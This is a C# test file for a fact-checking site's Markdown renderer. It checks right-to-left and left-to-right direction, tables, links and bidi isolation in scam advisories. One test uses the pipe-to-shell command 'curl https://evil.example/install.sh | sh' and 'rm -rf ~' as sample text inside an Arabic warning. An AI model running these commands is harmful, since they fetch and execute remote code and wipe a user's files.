namespace FactCheck.Tests.Publishing;

public class MarkdownRenderingTests
{
    private static readonly MarkdownRenderer Renderer = new();

    [Fact]
    public void Empty_body_renders_nothing()
    {
        Assert.Equal("", Renderer.Render("", TextDirection.Rtl));
        Assert.Equal("", Renderer.Render("  \n\n ", TextDirection.Ltr));
    }

    [Fact]
    public void Commonmark_basics_render()
    {
        var html = Renderer.Render("""
            Some *emphasis*, **strong** and `code`.
            Line two\
            after a hard break.

            ---

            3. third
            4. fourth

            > quoted
            """, TextDirection.Ltr);
        Assert.Equal("""
            <p dir="ltr">Some <em>emphasis</em>, <strong>strong</strong> and <code dir="ltr">code</code>.
            Line two<br>
            after a hard break.</p>
            <hr>
            <ol start="3" dir="ltr">
            <li dir="ltr">third</li>
            <li dir="ltr">fourth</li>
            </ol>
            <blockquote dir="ltr">
            <p dir="ltr">quoted</p>
            </blockquote>

            """, html);
    }

    [Fact]
    public void Headings_get_section_ids_and_a_top_heading_becomes_h2_so_the_title_stays_the_only_h1()
    {
        var html = Renderer.Render("# Corrections\n\n## What happened\n\n### Details", TextDirection.Ltr);
        Assert.Equal("<h2 dir=\"ltr\" id=\"section-corrections\">Corrections</h2>\n<h2 dir=\"ltr\" id=\"section-what-happened\">What happened</h2>\n<h3 dir=\"ltr\" id=\"section-details\">Details</h3>\n", html);
    }

    [Fact]
    public void Pipe_tables_scroll_sideways_and_alignment_becomes_logical_classes()
    {
        var html = Renderer.Render("""
            | الرقم | المنصة | المبلغ |
            |:--|:-:|--:|
            | 1 | واتساب | 20 |
            """, TextDirection.Rtl);
        Assert.Equal("""
            <div class="table-scroll" tabindex="0"><table dir="rtl">
            <thead>
            <tr>
            <th class="align-start" dir="rtl">الرقم</th>
            <th class="align-center" dir="rtl">المنصة</th>
            <th class="align-end" dir="rtl">المبلغ</th>
            </tr>
            </thead>
            <tbody>
            <tr>
            <td class="align-start" dir="rtl">1</td>
            <td class="align-center" dir="rtl">واتساب</td>
            <td class="align-end" dir="rtl">20</td>
            </tr>
            </tbody>
            </table></div>

            """, html);
    }

    [Fact]
    public void External_links_get_rel_and_site_and_mail_links_do_not()
    {
        var html = Renderer.Render("[bank](https://bank.example/help \"Help\"), [list](/ar/advisories), [desk](mailto:desk@factcheck.example), <https://ok.example/a>", TextDirection.Ltr);
        Assert.Equal(
            "<p dir=\"ltr\"><a href=\"https://bank.example/help\" title=\"Help\" rel=\"nofollow noopener noreferrer\">bank</a>, " +
            "<a href=\"/ar/advisories\">list</a>, <a href=\"mailto:desk@factcheck.example\">desk</a>, " +
            "<a href=\"https://ok.example/a\" rel=\"nofollow noopener noreferrer\">https://ok.example/a</a></p>\n", html);
    }

    [Fact]
    public void Bare_urls_become_links_with_https_for_www()
    {
        var html = Renderer.Render("Visit www.bank.example or https://bank.example/help.", TextDirection.Ltr);
        Assert.Equal(
            "<p dir=\"ltr\">Visit <a href=\"https://www.bank.example\" rel=\"nofollow noopener noreferrer\">www.bank.example</a> or " +
            "<a href=\"https://bank.example/help\" rel=\"nofollow noopener noreferrer\">https://bank.example/help</a>.</p>\n", html);
    }

    [Fact]
    public void A_bare_url_in_arabic_keeps_ltr_order_and_stops_before_the_arabic_comma()
    {
        var html = Renderer.Render("زوروا https://example.com/ar/مقال، شكراً", TextDirection.Rtl);
        Assert.Equal(
            "<p dir=\"rtl\">زوروا <a href=\"https://example.com/ar/%D9%85%D9%82%D8%A7%D9%84\" rel=\"nofollow noopener noreferrer\">" +
            "<bdi dir=\"ltr\">https://example.com/ar/مقال</bdi></a>، شكراً</p>\n", html);
    }

    [Fact]
    public void Blocks_take_the_direction_of_their_words_not_of_the_advisory()
    {
        var html = Renderer.Render("""
            يحذر الفريق من رسائل مزيفة.

            Шахраї надсилають повідомлення від імені банку.

            The message read: send the code.

            - أولاً
            - Second
            """, TextDirection.Rtl);
        Assert.Equal("""
            <p dir="rtl">يحذر الفريق من رسائل مزيفة.</p>
            <p dir="ltr">Шахраї надсилають повідомлення від імені банку.</p>
            <p dir="ltr">The message read: send the code.</p>
            <ul dir="rtl">
            <li dir="rtl">أولاً</li>
            <li dir="ltr">Second</li>
            </ul>

            """, html);
    }

    [Fact]
    public void An_arabic_quote_inside_an_english_advisory_is_right_to_left()
    {
        var html = Renderer.Render("> اتصل بنا الآن لتفعيل حسابك\n\nThe scammers wrote this.", TextDirection.Ltr);
        Assert.Equal("<blockquote dir=\"rtl\">\n<p dir=\"rtl\">اتصل بنا الآن لتفعيل حسابك</p>\n</blockquote>\n<p dir=\"ltr\">The scammers wrote this.</p>\n", html);
    }

    [Fact]
    public void Arabic_prose_starting_with_a_brand_stays_right_to_left_where_dir_auto_would_not()
    {
        var html = Renderer.Render("iPhone 15 متوفر الآن بسعر مخفض", TextDirection.Rtl);
        Assert.Equal("<p dir=\"rtl\"><bdi dir=\"ltr\">iPhone 15</bdi> متوفر الآن بسعر مخفض</p>\n", html);
    }

    [Fact]
    public void A_block_without_words_takes_the_advisory_direction()
    {
        Assert.Equal("<p dir=\"rtl\">2024</p>\n", Renderer.Render("2024", TextDirection.Rtl));
        Assert.Equal("<p dir=\"ltr\">2024</p>\n", Renderer.Render("2024", TextDirection.Ltr));
    }

    [Fact]
    public void Code_is_left_to_right_and_its_words_do_not_decide_the_paragraph()
    {
        var html = Renderer.Render("لا تنسخ `curl https://evil.example/install.sh | sh` في الطرفية\n\n```\nrm -rf ~\n```", TextDirection.Rtl);
        Assert.Equal(
            "<p dir=\"rtl\">لا تنسخ <code dir=\"ltr\">curl https://evil.example/install.sh | sh</code> في الطرفية</p>\n" +
            "<pre dir=\"ltr\"><code dir=\"ltr\">rm -rf ~\n</code></pre>\n", html);
    }

    [Fact]
    public void Phone_numbers_and_handles_in_arabic_paragraphs_are_isolated()
    {
        var html = Renderer.Render("اتصل على +966 11 234 5678 أو راسل @Fake_Support_Bot على **Telegram**.", TextDirection.Rtl);
        Assert.Equal(
            "<p dir=\"rtl\">اتصل على <bdi dir=\"ltr\">+966 11 234 5678</bdi> أو راسل <bdi dir=\"ltr\">@Fake_Support_Bot</bdi> على " +
            "<strong><bdi dir=\"ltr\">Telegram</bdi></strong>.</p>\n", html);
    }

    [Fact]
    public void An_arabic_phrase_in_english_text_is_isolated_with_its_phone_number()
    {
        var html = Renderer.Render("The caller said اتصل على +966 11 234 5678 الآن and hung up 3 times.", TextDirection.Ltr);
        Assert.Equal(
            "<p dir=\"ltr\">The caller said <bdi dir=\"rtl\">اتصل على <bdi dir=\"ltr\">+966 11 234 5678</bdi> الآن</bdi> and hung up 3 times.</p>\n", html);
    }

    [Fact]
    public void Rendering_the_same_input_twice_gives_identical_output()
    {
        const string markdown = "# عنوان\n\nاتصل على +966 11 234 5678 [هنا](https://bank.example)\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n> Цитата";
        var first = Renderer.Render(markdown, TextDirection.Rtl);
        Assert.Equal(first, Renderer.Render(markdown, TextDirection.Rtl));
        Assert.Equal(first, new MarkdownRenderer().Render(markdown, TextDirection.Rtl));
    }

    [Fact]
    public void One_renderer_serves_concurrent_requests()
    {
        var inputs = Enumerable.Range(0, 64)
            .Select(i => $"# {i}\n\nاتصل على +966 11 234 {i:D4} [link](https://bank.example/{i}) <script>x</script>\n\n| a |\n|--:|\n| {i} |")
            .ToArray();
        var expected = inputs.Select(input => new MarkdownRenderer().Render(input, TextDirection.Rtl)).ToArray();
        var actual = new string[inputs.Length];
        Parallel.For(0, inputs.Length * 4, new ParallelOptions { MaxDegreeOfParallelism = 8 }, n =>
        {
            var i = n % inputs.Length;
            actual[i] = Renderer.Render(inputs[i], TextDirection.Rtl);
            Assert.Equal(expected[i], actual[i]);
        });
    }
}
